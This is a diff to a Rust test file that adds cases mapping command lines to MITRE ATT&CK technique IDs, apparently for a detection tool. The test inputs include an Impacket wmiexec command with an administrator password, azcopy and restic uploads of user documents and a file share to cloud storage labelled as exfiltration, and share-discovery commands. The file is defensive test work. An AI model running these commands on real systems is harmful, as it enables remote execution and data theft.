@@ -917,5 +917,30 @@ fn general_readings_found_by_the_second_blind_set() {
             &["T1136.002"],
             &[],
         ),
+        // A Python script runs Python; an Impacket script under python is told by the script.
+        (r"python.exe C:\Users\Public\s.py", &["T1059.006"], &[]),
+        (
+            r"python wmiexec.py corp/administrator:P@ssw0rd@10.0.0.5",
+            &["T1047"],
+            &[],
+        ),
+        // Cloud uploaders used for exfiltration.
+        (
+            r#"azcopy.exe copy "C:\Users\x\Documents" "https://st01.blob.core.windows.net/c?sig=abc" --recursive"#,
+            &["T1567.002"],
+            &[],
+        ),
+        (
+            r"restic.exe -r s3:https://s3.wasabisys.com/bkt backup \\fs\share",
+            &["T1567.002"],
+            &[],
+        ),
+        // A recursive listing inside a share is file discovery, not share discovery.
+        (
+            r"cmd /c dir /s /b \\fs01\share\*.pdf > C:\temp\pdfs.txt",
+            &["T1083"],
+            &[],
+        ),
+        (r"dir \\fs01\c$\", &["T1135"], &[]),
     ]);
 }
